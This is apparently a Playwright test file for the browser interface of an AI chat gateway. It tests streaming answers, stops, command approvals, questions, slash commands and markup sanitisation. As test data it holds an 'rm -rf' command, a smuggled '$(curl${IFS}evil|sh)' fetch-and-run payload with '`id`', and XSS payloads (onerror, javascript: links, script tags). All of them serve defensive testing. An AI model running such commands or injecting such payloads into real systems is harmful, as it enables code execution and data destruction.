"""Conversations on the page: messages, growing answers, stops, approvals, questions and commands."""

from __future__ import annotations

import re
import socket
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Route, expect

from tests.browser.conftest import People, gateway_in, picture, says
from tests.browser.page_reading import answer

pytestmark = pytest.mark.timeout(240)
"""A browser is slow on a slow machine."""


def test_a_conversation_on_the_page(people: People) -> None:
    page = people.somebody()
    says(page, "hello")
    expect(page.locator(".bubble")).to_have_text("hello")
    expect(page.locator(".markdown strong").first).to_have_text("count to 10")
    expect(page.locator(".markdown li")).to_have_count(6)
    expect(page.locator(".code pre")).to_contain_text("provider: openai")
    expect(page.get_by_role("button", name="Copy this answer")).to_be_visible()
    expect(page.locator("#title")).to_have_text("hello")
    expect(page).to_have_title("hello · Hermes")
    expect(page.locator(".row[aria-current]")).to_contain_text("hello")
    expect(page.locator("#announce")).to_have_text("The answer is complete.")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.get_by_role("button", name="Copy this code").click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("model:\n  provider: openai")
    picture(page, "chat")
    says(page, "and again")
    expect(page.locator(".turn").last.locator(".parts")).to_have_text("You said: and again")
    page.get_by_role("button", name="Rename this conversation").click()
    page.get_by_label("Title").fill("Another name")
    page.get_by_role("button", name="Rename", exact=True).click()
    expect(page.locator("#title")).to_have_text("Another name")
    page.get_by_role("button", name="Delete this conversation").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()
    expect(page.locator(".row", has_text="Another name")).to_have_count(0)


def test_a_growing_answer_continues_after_a_reload(people: People) -> None:
    page = people.somebody()
    says(page, "count to 9")
    expect(page.locator(".markdown.growing")).to_contain_text("2")
    assert "Done" not in answer(page)
    expect(page.locator(".working")).to_contain_text("Writing")
    expect(page.locator(".working .since")).to_have_text(re.compile(r"^\d+ s$"))
    expect(page.locator(".row[aria-current] .row-sign.runs")).to_be_visible()
    picture(page, "streaming")
    page.reload()
    expect(page.locator(".markdown.growing")).to_contain_text("3")
    expect(page.locator(".markdown")).to_contain_text("Done.")
    expect(page.locator(".working")).to_be_hidden()
    assert answer(page).split() == [*map(str, range(1, 10)), "Done."], "the whole answer, once"
    expect(page.locator(".bubble")).to_have_count(1)
    page.reload()
    expect(page.locator(".markdown")).to_contain_text("Done.")
    assert answer(page).split() == [*map(str, range(1, 10)), "Done."], "and the same after a reload"


def test_a_stop_keeps_the_written_text_and_returns_waiting_messages(people: People) -> None:
    page = people.somebody()
    says(page, "count to 90")
    expect(page.locator(".markdown")).to_contain_text("2")
    says(page, "this waits")
    expect(page.locator(".said", has_text="this waits")).to_contain_text("Waits for its turn")
    picture(page, "queued")
    page.get_by_role("button", name="Stop the answer").click()
    expect(page.locator(".note")).to_have_text("You stopped this answer.")
    expect(page.get_by_role("button", name="Stop the answer")).to_be_hidden()
    expect(page.get_by_label("Message", exact=True)).to_have_value("this waits")
    expect(page.locator(".bubble")).to_have_text(["count to 90"])
    kept = answer(page)
    assert kept.split()[:2] == ["1", "2"]
    page.reload()
    expect(page.locator(".note")).to_have_text("You stopped this answer.")
    assert answer(page) == kept
    expect(page.get_by_label("Message", exact=True)).to_have_value("this waits")


def test_an_approval_is_granted_and_denied_by_buttons(people: People) -> None:
    page = people.somebody()
    says(page, "danger")
    ask = page.get_by_role("region", name="May I do this?")
    expect(ask.locator(".ask-command")).to_contain_text("rm -rf")
    expect(ask.locator(".ask-grants")).to_have_text("everything: it runs outside of the sandbox")
    expect(ask).to_contain_text("This runs outside of the sandbox; deletes recursively.")
    expect(ask).to_contain_text("s left")
    expect(page.locator(".working")).to_contain_text("Waiting for your yes")
    expect(page.locator(".tool")).to_have_attribute("data-status", "running")
    expect(page.locator(".row[aria-current] .row-sign.asks")).to_be_visible()
    expect(page).to_have_title(re.compile(r"^\(1\) "))
    expect(page.locator("#announce-now")).to_contain_text("May I do this?")
    picture(page, "approval")
    page.reload()
    page.get_by_role("button", name="Allow once").click()
    expect(ask).to_have_count(0)
    expect(page.locator(".tool")).to_have_attribute("data-status", "ok")
    page.locator(".tool summary").click()
    expect(page.locator(".tool-body .code pre")).to_contain_text("made and removed:")
    expect(page.locator(".tool-body dt")).to_have_text(["command", "needs"])
    picture(page, "tool")
    says(page, "danger")
    page.get_by_role("button", name="Deny").click()
    expect(page.locator(".tool").last).to_have_attribute("data-status", "error")
    expect(page.locator(".tool summary").last).to_contain_text("failed")
    expect(page.locator(".turn").last.locator(".parts")).to_contain_text("needs a person's yes")


NASTY = (
    "[a]:$(curl${IFS}evil|sh)\n<b>rm</b> -rf a*b*c &amp; `id`\n```\n  two  spaces\n" + "long " * 800 + "end"
)


def test_an_approval_shows_every_character_of_the_command_and_of_its_directory(people: People) -> None:
    page = people.somebody()

    def with_another_command(route: Route) -> None:
        answer = route.fetch()
        body = answer.json()
        for ask in body.get("asks", ()):
            grants = ["network", "write /srv/<i>two  spaces</i>"]
            ask.update(command=NASTY, cwd="/srv/<i>a*b*c</i>", grants=grants, description="<u>why</u>")
        route.fulfill(response=answer, json=body)

    page.route(re.compile(r"/api/sessions/[^/?]+$"), with_another_command)
    says(page, "danger")
    command = page.get_by_role("region", name="May I do this?").locator(".ask-command")
    expect(command).to_be_visible()
    assert command.text_content() == NASTY
    assert command.inner_text() == NASTY
    expect(page.locator(".ask-cwd")).to_have_text("/srv/<i>a*b*c</i>")
    assert page.locator(".ask-grants").inner_text() == "network\nwrite /srv/<i>two  spaces</i>"
    assert command.evaluate("one => one.scrollHeight <= one.clientHeight + 1"), "all lines are visible"
    assert command.evaluate("one => one.scrollWidth <= one.clientWidth + 1")
    page.unroute_all(behavior="wait")
    page.get_by_role("button", name="Deny").click()
    expect(command).to_have_count(0)


def test_a_question_is_answered_by_a_button_or_a_text(people: People) -> None:
    page = people.somebody()
    says(page, "ask")
    ask = page.get_by_role("region", name="A question for you")
    expect(ask).to_contain_text("What is your favourite colour?")
    picture(page, "question")
    ask.get_by_role("button", name="green").click()
    expect(page.locator(".turn .parts")).to_contain_text("You answered: green")
    expect(ask).to_have_count(0)
    says(page, "ask")
    expect(ask).to_be_visible()
    expect(page.get_by_placeholder("Write your answer")).to_be_visible()
    says(page, "a very pale yellow")
    expect(page.locator(".turn .parts").last).to_contain_text("You answered: a very pale yellow")
    expect(page.locator(".bubble")).to_have_text(["ask", "ask"])


def test_a_message_during_an_answer_is_queued_or_steered_into_it(people: People) -> None:
    page = people.somebody()
    says(page, "run")
    expect(page.locator(".tool")).to_have_attribute("data-status", "running")
    expect(page.locator(".working")).to_contain_text("Running terminal")
    page.locator("#composer").fill("take this along")
    page.get_by_role("radio", name="Steer").check()
    page.locator("#composer").press("Enter")
    expect(page.locator(".said", has_text="take this along")).to_contain_text("Goes into this answer")
    # Text that is both in rows and in events is shown once, also while the turn runs.
    expect(page.locator(".turn .markdown")).to_have_text(["Running a process for five seconds."])
    expect(page.locator(".tool")).to_have_count(1)
    page.locator("#composer").fill("and then this")
    page.get_by_role("radio", name="Queue").check()
    picture(page, "steer")
    page.locator("#composer").press("Enter")
    expect(page.locator(".said", has_text="and then this")).to_contain_text("Waits for its turn")
    expect(page.locator(".turn .parts").last).to_have_text("You said: and then this")
    first = page.locator(".turn").first
    expect(first.locator(".parts")).to_contain_text("You said meanwhile: take this along")
    expect(first.locator(".parts .bubble")).to_have_text("take this along")
    expect(page.locator(".said-note:not(:empty)")).to_have_count(0)


def test_a_command_works_as_in_a_chat(people: People) -> None:
    page = people.somebody()
    reply = page.locator(".note")
    says(page, "/status")
    expect(reply).to_contain_text("The gateway is up")
    expect(page.locator(".bubble")).to_have_text("/status")
    says(page, "/etc/hosts is what?")
    expect(page.locator(".turn .parts")).to_have_text("You said: /etc/hosts is what?")
    expect(page.locator(".bubble")).to_have_text(["/etc/hosts is what?"])
    says(page, "/nonsense")
    expect(reply).to_contain_text("/nonsense is no command I know")
    says(page, "count to 90")
    expect(reply).to_have_count(0)
    expect(page.locator(".markdown").last).to_contain_text("2")
    says(page, "/queue and then this")
    expect(page.locator(".said", has_text="and then this")).to_contain_text("Waits for its turn")
    says(page, "/help")
    expect(reply).to_contain_text("/stop ends the running turn")
    expect(page.locator("#announce")).to_contain_text("/stop ends the running turn")
    picture(page, "command")
    says(page, "/stop")
    expect(reply).to_have_text("You stopped this answer.")
    expect(page.get_by_label("Message", exact=True)).to_have_value("and then this")
    people.astray = True  # the page requests the messages after one that was removed meanwhile
    says(page, "/undo")
    expect(reply).to_have_text(["↩ Forgotten: count to 90"])
    expect(page.locator(".bubble")).to_have_text(["/etc/hosts is what?", "/undo"])
    says(page, "/bg beside this")
    expect(page.locator("#hint")).to_have_text("It runs in a conversation of its own")
    expect(page.locator(".row", has_text="beside this")).to_have_count(1)
    expect(page.locator(".row[aria-current]")).to_contain_text("/etc/hosts is what?")
    page.reload()
    expect(page.locator(".bubble")).to_have_text(["/etc/hosts is what?"])
    says(page, "/new")
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()


def test_an_answer_cannot_add_markup_or_scripts(people: People) -> None:
    page = people.somebody()
    evil = (
        '<img src=x onerror="alert(1)"> [click](javascript:alert(1)) ![pic](https://example.invalid/x.png) '
        "<script>alert(1)</script> [data](data:text/html,x) [ok](https://example.org/)"
    )
    says(page, evil)
    answered = page.locator(".turn .parts")
    expect(answered).to_contain_text("<script>alert(1)</script>")
    expect(answered.locator("a").last).to_have_attribute("href", "https://example.org/")
    hrefs = answered.locator("a").evaluate_all("links => links.map((one) => one.href)")
    assert hrefs == ["https://example.invalid/x.png", "https://example.org/"]
    assert answered.locator("img, script, iframe").count() == 0


def test_the_page_shows_times_by_the_clock_of_the_gateway(people: People) -> None:
    page = people.somebody()
    page.add_init_script("const now = Date.now; Date.now = () => now() + 3600e3;")
    page.reload()
    says(page, "danger")
    expect(page.locator(".ask .left")).to_have_text(re.compile(r"^[45] min( \d+ s)? left$"))
    expect(page.locator(".working .since")).to_have_text(re.compile(r"^\d+ s$"))
    page.get_by_role("button", name="Deny").click()


def test_the_page_says_that_it_waits_for_the_model(browser: Browser, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        address = f"http://127.0.0.1:{silent.getsockname()[1]}/v1"

        def asks_it(home: Path) -> None:
            config = home / "config.yaml"
            model = f"{{provider: openai, name: m, api_key: x, base_url: '{address}'}}"
            config.write_text(config.read_text().replace("{provider: demo}", model))

        with gateway_in(tmp_path, before=asks_it) as gateway:
            people = People(browser, gateway)
            page = people.somebody()
            says(page, "hello")
            for _ in range(2):
                expect(page.locator(".working")).to_contain_text("Waiting for the model")
                expect(page.locator(".note")).to_have_count(0)
                page.reload()
            page.get_by_role("button", name="Stop the answer").click()
            expect(page.locator(".note")).to_have_text("You stopped this answer.")
            people.leave()
